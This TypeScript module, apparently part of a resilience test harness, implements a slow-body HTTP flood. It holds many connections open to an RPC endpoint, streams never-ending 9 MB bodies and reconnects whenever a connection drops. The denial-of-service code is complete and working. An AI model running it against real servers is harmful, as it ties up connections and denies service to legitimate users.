// A visitor's flood of unfinished bodies: nine megabytes are announced or streamed on each connection and never end.
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { FloodTarget } from './pictures.ts'

export interface HeldBodies {
  /** Connections the server closed or answered. */
  readonly ended: number
  readonly sentMegabytes: number
}

const BODY_BYTES = 9 * 1024 * 1024
const CHUNK = Buffer.alloc(64 * 1024, 32)
const CHUNK_IN_FRAME = Buffer.concat([Buffer.from(`${CHUNK.length.toString(16)}\r\n`), CHUNK, Buffer.from('\r\n')])
/** With 500 connections as much as a line of a gigabit carries: more would measure this machine's loopback. */
const PAUSE_MS = 250

export async function floodBodies({ url, anonKey, connections, signal }: FloodTarget): Promise<HeldBodies> {
  const { port, hostname } = new URL(url)
  let ended = 0
  let sentBytes = 0
  const sockets: Socket[] = []

  const open = (lane: number) => {
    const socket = connect({
      port: Number(port),
      host: hostname,
      localAddress: `127.0.${2 + (lane % 4)}.${1 + (lane % 50)}`,
    })
    const isChunked = lane % 2 === 1
    const length = isChunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${BODY_BYTES}`
    let sent = 0
    const write = async () => {
      while (sent < BODY_BYTES - CHUNK.length && !socket.destroyed && !signal.aborted) {
        sent += CHUNK.length
        sentBytes += CHUNK.length
        socket.write(isChunked ? CHUNK_IN_FRAME : CHUNK)
        await sleep(PAUSE_MS)
      }
    }
    let isOver = false
    const over = () => {
      if (!isOver) ended += 1
      isOver = true
      socket.destroy()
    }
    socket.on('connect', () => {
      socket.write(
        `POST /rest/v1/rpc/application_state HTTP/1.1\r\nHost: o1\r\napikey: ${anonKey}\r\nContent-Type: application/json\r\n${length}\r\n\r\n`,
      )
      void write()
    })
    // An attacker opens the next when one is ended.
    socket.on('data', over)
    socket.on('error', over)
    socket.on('close', () => {
      over()
      if (!signal.aborted) setTimeout(() => signal.aborted || open(lane), 1000)
    })
    sockets.push(socket)
  }

  for (let lane = 0; lane < connections; lane++) open(lane)
  await new Promise<void>((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }))
  for (const socket of sockets) socket.destroy()
  return { ended, sentMegabytes: Math.round(sentBytes / 1024 / 1024) }
}
